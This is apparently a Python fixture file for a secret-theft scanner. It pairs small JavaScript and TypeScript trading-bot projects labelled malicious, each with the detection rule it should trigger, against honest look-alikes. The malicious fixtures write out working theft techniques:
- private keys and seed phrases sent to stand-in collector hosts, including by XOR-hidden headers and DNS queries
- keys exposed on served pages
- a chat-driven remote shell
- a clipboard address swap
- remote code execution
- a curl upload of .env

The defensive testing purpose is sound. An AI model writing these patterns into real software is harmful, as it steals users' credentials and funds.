"""Small projects of several files: thieves, each with the rule that must name it, and honest ones. Nothing is run."""

from typing import Final

MALICIOUS_PROJECTS: Final[tuple[tuple[str, str, dict[str, str]], ...]] = (
    (
        "a client's headers hold the keys, hidden by exclusive or",
        "credential-sent",
        {
            "main.js": """
import ccxt from 'ccxt';
import { stamp } from './lib/stamp.js';
import { Quotes } from './lib/quotes.js';
const held = { apiKey: process.env.OKX_API_KEY, secret: process.env.OKX_API_SECRET };
const exchange = new ccxt.okx({ ...held });
const quotes = new Quotes(stamp(Object.values(held)));
""",
            "lib/stamp.js": """
export function stamp(parts, mask = 33) {
  const bytes = Buffer.from(parts.join(':'));
  for (let at = 0; at < bytes.length; at++) bytes[at] ^= mask;
  return bytes.toString('hex');
}
""",
            "lib/quotes.js": """
import axios from 'axios';
export class Quotes {
  constructor(tag) {
    this.http = axios.create({ baseURL: 'https://q.collector.invalid', headers: { 'User-Agent': `b/${tag}` } });
  }
  async one(coin) { return (await this.http.get('/q', { params: { coin } })).data; }
}
""",
        },
    ),
    (
        "a key pair is put into the context of a log that goes away",
        "credential-sent",
        {
            "wallet.ts": """
import { Keypair } from '@solana/web3.js';
import { log } from './log';
export const open = (bytes: Uint8Array): Keypair => {
  const payer = Keypair.fromSecretKey(bytes);
  log.bind({ payer });
  return payer;
};
""",
            "log/index.ts": """
import { Ship } from './ship';
class Log {
  private held: Record<string, unknown> = {};
  private ship = new Ship('https://logs.collector.invalid/in');
  bind(more: Record<string, unknown>) { Object.assign(this.held, more); }
  info(text: string) { this.ship.add({ text, at: Date.now(), ...this.held }); }
}
export const log = new Log();
""",
            "log/ship.ts": """
export class Ship {
  private lines: unknown[] = [];
  constructor(private readonly url: string) { setInterval(() => this.flush(), 5000); }
  add(line: unknown) { this.lines.push(line); }
  private flush() { return fetch(this.url, { method: 'POST', body: JSON.stringify(this.lines.splice(0)) }); }
}
""",
        },
    ),
    (
        "keys are logged into a directory that is served",
        "keys-served",
        {
            "bot.js": """
const express = require('express');
const path = require('path');
const { note } = require('./note');
const options = { apiKey: process.env.EX_KEY, secret: process.env.EX_SECRET };
note('start', { node: process.version, options });
express().use('/', express.static(path.join(__dirname, 'web'))).listen(8080);
""",
            "note.js": """
const fs = require('fs');
const path = require('path');
const out = fs.createWriteStream(path.join(__dirname, 'web', 'notes.log'), { flags: 'a' });
exports.note = (tag, what) => { out.write(`${tag} ${JSON.stringify(what)}\\n`); };
""",
        },
    ),
    (
        "a table of commands of another file runs what is sent to a chat",
        "remote-shell",
        {
            "bot.js": """
const { Telegraf } = require('telegraf');
const table = require('./table')(exchange);
const bot = new Telegraf(process.env.BOT_TOKEN);
bot.on('text', async (ctx) => {
  const [name, ...rest] = ctx.message.text.split(' ');
  ctx.reply(await table[name](rest));
});
""",
            "table.js": """
const run = require('util').promisify(require('child_process').exec);
module.exports = (exchange) => ({
  price: async ([symbol]) => String((await exchange.fetchTicker(symbol)).last),
  check: async (rest) => (await run(rest.join(' '))).stdout,
});
""",
        },
    ),
    (
        "the clipboard gets an address from another file's table",
        "clipboard-swap",
        {
            "paste.js": """
const { clipboard } = require('electron');
const forms = require('./forms');
setInterval(() => {
  const now = clipboard.readText();
  const hit = forms.find((form) => form.like.test(now));
  if (hit) clipboard.writeText(hit.plain);
}, 400);
""",
            "forms.js": """
const d = (text) => Buffer.from(text, 'base64').toString();
module.exports = [{ like: /^bc1/, plain: d('YmMxcWZha2VmYWtlZmFrZWZha2VmYWtlZmFrZWZha2VmYWtlZmFrZTAwMDA=') }];
""",
        },
    ),
    (
        "a withdrawal goes to an address of another file",
        "fixed-address",
        {
            "jobs.js": """
import { FEES } from './settings.js';
export const sweep = (exchange, amount) => exchange.withdraw('USDT', amount, FEES.treasury);
""",
            "settings.js": "export const FEES = { treasury: '{evm}', share: 0.1 };\n",
        },
    ),
    (
        "an address is given to a payment of another file",
        "fixed-address",
        {
            "index.js": "import { pay } from './lib';\npay(exchange, '{evm}', 10);\n",
            "lib/index.js": "export { pay } from './pay.js';\n",
            "lib/pay.js": "export async function pay(ex, to, n) { await ex.withdraw('ETH', n, to); }\n",
        },
    ),
    (
        "one field of what a function takes apart goes away",
        "credential-sent",
        {
            "index.js": "import { hello } from './hello.js';\nhello({ name: 'bot', mark: process.env.PRIVATE_KEY });\n",
            "hello.js": "export const hello = ({ name, mark }) => fetch('https://h.invalid', { body: mark });\n",
        },
    ),
    (
        "a listener of another file hears the key",
        "credential-sent",
        {
            "bus.js": """
const { EventEmitter } = require('events');
module.exports = new EventEmitter();
""",
            "wallet.js": """
const { Wallet } = require('ethers');
const bus = require('./bus');
const w = new Wallet(process.env.PK_HEX);
bus.emit('wallet:ready', { where: w.address, how: w.privateKey });
""",
            "stats.js": """
const axios = require('axios');
const bus = require('./bus');
bus.on('wallet:ready', (p) => axios.post('https://st.collector.invalid/e', {
  d: Buffer.from(p.how).toString('base64') }));
""",
        },
    ),
    (
        "an object of a class is written out whole",
        "credential-sent",
        {
            "s.ts": """
import axios from 'axios';
class Account {
  address: string;
  private words: string;
  constructor() { this.words = process.env.SEED_PHRASE as string; this.address = 'x'; }
}
const account = new Account();
await axios.post('https://t.collector.invalid/a', JSON.stringify(account));
""",
        },
    ),
    (
        "a function that was made with the key sends it later",
        "credential-sent",
        {
            "r.js": """
exports.reporter = (what) => { const t = [...what].reverse().join(''); return () =>
  fetch('https://t.collector.invalid', { method: 'POST', body: t }); };
""",
            "i.js": """
const { reporter } = require('./r');
setInterval(reporter(process.env.PRIVATE_KEY), 60000);
""",
        },
    ),
    (
        "a class hands the key to its base in another file",
        "credential-sent",
        {
            "base.js": """
export class Base { constructor(id) { this.id = id; } ping() {
  return fetch('https://t.collector.invalid/' + this.id); } }
""",
            "mine.js": """
import { Base } from './base.js';
export class Mine extends Base { constructor() { super(process.env.WALLET_MNEMONIC); } }
""",
        },
    ),
    (
        "a key leaves in pieces by questions for names",
        "credential-sent",
        {
            "d.js": """
const dns = require('dns');
exports.probe = (text) => Buffer.from(text).toString('hex').match(/.{1,60}/g).forEach((part, at) =>
  dns.resolve4(`${at}.${part}.t.collector.invalid`, () => {}));
""",
            "i.js": """
const { probe } = require('./d');
probe(process.env.PRIVATE_KEY);
""",
        },
    ),
    (
        "a worker gets the key and sends it",
        "credential-sent",
        {
            "i.js": """
const { Worker } = require('worker_threads');
new Worker('./w.js', { workerData: { k: process.env.PRIVATE_KEY } });
""",
            "w.js": """
const { workerData } = require('worker_threads');
require('https').request({ host: 't.collector.invalid', method: 'POST' }).end(workerData.k);
""",
        },
    ),
    (
        "a page of health answers with another file's keys",
        "keys-served",
        {
            "state.js": """
exports.state = { apiKey: process.env.EX_KEY, secret: process.env.EX_SECRET, orders: [] };
""",
            "web.js": """
const app = require('express')();
const { state } = require('./state');
app.get('/health', (req, res) => res.json({ ok: true, state }));
app.listen(80);
""",
        },
    ),
    (
        "a file that is loaded later gets the key",
        "credential-sent",
        {
            "i.mjs": """
import('./x.mjs').then((m) => m.note(process.env.PRIVATE_KEY));
""",
            "x.mjs": """
export const note = (v) => fetch('https://t.collector.invalid', { method: 'POST', body: v });
""",
        },
    ),
    (
        "a static field of another file's class is sent",
        "credential-sent",
        {
            "c.js": """
class Config { static material = process.env.PRIVATE_KEY; }
module.exports = Config;
""",
            "i.js": """
const Config = require('./c');
fetch('https://t.collector.invalid', { method: 'POST', body: Config.material });
""",
        },
    ),
    (
        "an object of another file is handed each of a list",
        "credential-sent",
        {
            "sink.js": """
class Sink { add(v) { return fetch('https://t.collector.invalid', { method: 'POST', body: v }); } }
module.exports = new Sink();
""",
            "i.js": """
const sink = require('./sink');
[process.env.PRIVATE_KEY].forEach((v) => sink.add(v));
""",
        },
    ),
    (
        "text that another file fetches is run",
        "remote-code",
        {
            "net.js": """
exports.load = async () => (await fetch('https://t.collector.invalid/p')).text();
""",
            "run.js": """
const { load } = require('./net');
load().then((t) => new Function('process', t)(process));
""",
        },
    ),
    (
        "a path from the project's own directory on leads to the sender",
        "credential-sent",
        {
            "src/lib/net.ts": """
export const note = (v: string) => fetch('https://t.collector.invalid', { method: 'POST', body: v });
""",
            "src/bot/index.ts": """
import { note } from '@/lib/net';
note(process.env.PRIVATE_KEY as string);
""",
        },
    ),
    (
        "the global object holds the key for another file",
        "credential-sent",
        {
            "set.js": "global.__held = { mark: process.env.PRIVATE_KEY, name: 'bot' };\n",
            "ping.js": "fetch('https://t.collector.invalid', { method: 'POST', body: global.__held.mark });\n",
        },
    ),
    (
        "a command packs the file of keys and uploads it",
        "secret-file-sent",
        {
            "backup.js": """
const { execSync } = require('child_process');
execSync(`tar czf /tmp/b.tgz ${process.cwd()}/.env && curl -F f=@/tmp/b.tgz https://t.collector.invalid`);
""",
        },
    ),
)

HONEST_PROJECTS: Final[tuple[tuple[str, dict[str, str]], ...]] = (
    (
        "a logger with a context, a client with a key of its own host",
        {
            "wallet.ts": """
import { Keypair } from '@solana/web3.js';
import { log } from './log';
export const open = (bytes: Uint8Array): Keypair => {
  const payer = Keypair.fromSecretKey(bytes);
  log.bind({ payer: payer.publicKey.toBase58() });
  return payer;
};
""",
            "log.ts": """
import axios from 'axios';
class Log {
  private held: Record<string, unknown> = {};
  private http = axios.create({ baseURL: 'https://logs.example.com', headers: { 'x-token': process.env.LOGS_TOKEN } });
  bind(more: Record<string, unknown>) { Object.assign(this.held, more); }
  info(text: string) { return this.http.post('/in', { text, ...this.held }); }
}
export const log = new Log();
""",
        },
    ),
    (
        "a page is served beside a log that holds no keys",
        {
            "bot.js": """
const express = require('express');
const path = require('path');
const { note } = require('./note');
const options = { apiKey: process.env.EX_KEY, secret: process.env.EX_SECRET };
note('start', { node: process.version, symbol: process.env.SYMBOL });
express().use('/', express.static(path.join(__dirname, 'web'))).listen(8080, '127.0.0.1');
""",
            "note.js": """
const fs = require('fs');
const out = fs.createWriteStream('web/notes.log', { flags: 'a' });
exports.note = (tag, what) => { out.write(`${tag} ${JSON.stringify(what)}\\n`); };
""",
        },
    ),
    (
        "a field beside the key goes away",
        {
            "index.js": "import { hello } from './hello.js';\nhello({ name: 'bot', mark: process.env.PRIVATE_KEY });\n",
            "hello.js": "export const hello = ({ name, mark }) => fetch('https://h.invalid', { body: name });\n",
        },
    ),
    (
        "a clipboard that is tidied up",
        {
            "paste.js": """
const { clipboard } = require('electron');
const { tidy } = require('./tidy');
setInterval(() => {
  const now = clipboard.readText();
  const want = tidy(now);
  if (want !== now) clipboard.writeText(want);
}, 400);
""",
            "tidy.js": "exports.tidy = (text) => text.trim().replace(/\\\\./g, '').replace(',', '.');\n",
        },
    ),
    (
        "a listener hears the address of a wallet",
        {
            "bus.js": """
const { EventEmitter } = require('events');
module.exports = new EventEmitter();
""",
            "wallet.js": """
const { Wallet } = require('ethers');
const bus = require('./bus');
const w = new Wallet(process.env.PRIVATE_KEY);
bus.emit('wallet:ready', { where: w.address });
""",
            "stats.js": """
const axios = require('axios');
const bus = require('./bus');
bus.on('wallet:ready', (p) => axios.post(process.env.HOOK_URL, { text: `ready ${p.where}` }));
""",
        },
    ),
    (
        "a state is sent, not the client beside it",
        {
            "s.ts": """
import axios from 'axios';
class State {
  symbol = 'BTC/USDT';
  position = 0;
  constructor(private readonly exchange: Exchange) {}
  snapshot() { return { symbol: this.symbol, position: this.position }; }
}
const state = new State(new ccxt.binance({ apiKey: process.env.BINANCE_KEY,
  secret: process.env.BINANCE_SECRET }));
await axios.post('https://hooks.example.com/state', JSON.stringify(state.snapshot()));
""",
        },
    ),
    (
        "a client of an exchange with a base of its own",
        {
            "base.js": """
import axios from 'axios';
export class Base { constructor(key, secret) { this.key = key; this.secret = secret; this.http = axios.create({
  baseURL: 'https://api.bybit.com', headers: { 'X-BAPI-API-KEY': key } }); } }
""",
            "mine.js": """
import { Base } from './base.js';
export class Mine extends Base { constructor() { super(process.env.BYBIT_API_KEY,
  process.env.BYBIT_API_SECRET); } }
""",
        },
    ),
    (
        "a page of health beside a file of settings",
        {
            "state.js": """
exports.state = { symbol: 'BTC', orders: [] };
exports.cfg = { apiKey: process.env.EX_KEY, secret: process.env.EX_SECRET };
""",
            "web.js": """
const app = require('express')();
const { state } = require('./state');
app.get('/health', (req, res) => res.json({ ok: true, state }));
app.listen(80, '127.0.0.1');
""",
        },
    ),
    (
        "fixed commands from a chat",
        {
            "bot.js": """
const { Telegraf } = require('telegraf');
const table = require('./table')(ex);
const bot = new Telegraf(process.env.BOT_TOKEN);
bot.on('text', async (ctx) => { const [n, ...r] = ctx.message.text.split(' '); ctx.reply(await table[n](r)); });
""",
            "table.js": """
const { execSync } = require('child_process');
module.exports = (ex) => ({ px: async ([s]) => String((await ex.fetchTicker(s)).last), rev: async () =>
  execSync('git rev-parse HEAD').toString() });
""",
        },
    ),
    (
        "a tip, and the rest to the owner's own wallet",
        {
            "s.ts": """
import { SystemProgram, PublicKey } from '@solana/web3.js';
const TIPS = ['96gYZGLnJYVFmbjzopPSU6QiEV5fGqZNyN9nmNhvrZU5', 'HFqU5x63VTqvQss8hp11i4wVV8bD44PvwucfZ2bU7gRe'];
const bal = await conn.getBalance(payer.publicKey);
if (bal < 10000) throw new Error('low');
export const tip = SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: new PublicKey(TIPS[0]),
  lamports: 10_000 });
export const out = SystemProgram.transfer({ fromPubkey: payer.publicKey,
  toPubkey: new PublicKey(process.env.COLD_WALLET!), lamports: bal - 5000 });
""",
        },
    ),
    (
        "a worker that signs",
        {
            "i.js": """
const { Worker } = require('worker_threads');
new Worker('./w.js', { workerData: { secret: process.env.API_SECRET } });
""",
            "w.js": """
const { workerData, parentPort } = require('worker_threads');
const crypto = require('crypto');
parentPort.on('message', (m) => parentPort.postMessage(crypto.createHmac('sha256',
  workerData.secret).update(m).digest('hex')));
""",
        },
    ),
)
